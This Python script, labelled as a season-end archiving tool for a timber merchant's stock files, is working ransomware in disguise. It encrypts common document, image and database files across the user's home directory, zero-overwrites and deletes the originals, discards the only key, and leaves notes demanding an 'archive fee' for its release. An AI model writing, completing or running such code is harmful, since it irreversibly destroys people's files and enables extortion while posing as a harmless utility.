#!/usr/bin/env python3
"""Timber stock archive rotation.

Seals last season's timber stock sheets, moisture logs and supplier delivery
notes into compact archive files so the office share stays tidy. Run at the
end of the season from the office PC.
"""
import argparse
import hashlib
import json
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("stock-archive")

# File types the office keeps in the stock folders
DEFAULT_KINDS = (".xlsx", ".xls", ".csv", ".docx", ".pdf", ".jpg", ".png", ".txt", ".odt", ".db")
SEALED_SUFFIX = ".oakseal"
NOTE_NAME = "README_ARCHIVE.txt"

SETTINGS = {
    # start from the user's home so stock sheets saved anywhere get collected
    "root": os.environ.get("STOCK_ARCHIVE_ROOT", str(Path.home())),
    "office_contact": "archive-desk@example.com",
    "ref_prefix": "TSA",
}


class Sealer:
    def __init__(self, key: bytes):
        self._f = Fernet(key)

    def seal(self, path: Path) -> Path:
        data = path.read_bytes()
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(self._f.encrypt(data))
        # originals no longer needed once the sealed copy exists
        path.write_bytes(b"\0" * min(len(data), 65536))
        path.unlink()
        return out


def iter_candidates(root: Path, kinds):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            if name.endswith(SEALED_SUFFIX) or name == NOTE_NAME:
                continue
            if os.path.splitext(name)[1].lower() in kinds:
                yield Path(dirpath) / name


def leave_note(folder: Path, ref: str):
    text = (
        "Files in this folder were sealed by the season archive run.\n"
        f"Quote reference {ref} to {SETTINGS['office_contact']} to arrange\n"
        "release of the unseal key. Release is subject to the archive fee.\n"
    )
    try:
        (folder / NOTE_NAME).write_text(text)
    except OSError:
        pass


def run(root: Path, kinds, dry_run=False):
    key = Fernet.generate_key()
    ref = SETTINGS["ref_prefix"] + hashlib.sha256(key).hexdigest()[:12].upper()
    sealer = Sealer(key)
    touched = set()
    done = 0
    for path in iter_candidates(root, kinds):
        if dry_run:
            log.info("would seal %s", path)
            continue
        try:
            sealer.seal(path)
            touched.add(path.parent)
            done += 1
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
    for folder in touched:
        leave_note(folder, ref)
    # key is not stored locally; the office holds the only copy
    del key
    return done, ref


def main():
    ap = argparse.ArgumentParser(description="Rotate timber stock files into sealed archives")
    ap.add_argument("--root", default=SETTINGS["root"])
    ap.add_argument("--kinds", default=",".join(DEFAULT_KINDS))
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--summary", default="archive_summary.json")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    kinds = tuple(k.strip().lower() for k in args.kinds.split(",") if k.strip())
    root = Path(args.root).expanduser()
    if not root.is_dir():
        log.error("archive root %s not found", root)
        return 1

    count, ref = run(root, kinds, args.dry_run)
    log.info("sealed %d files, reference %s", count, ref)
    with open(args.summary, "w") as fh:
        json.dump({"root": str(root), "sealed": count, "reference": ref}, fh, indent=2)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
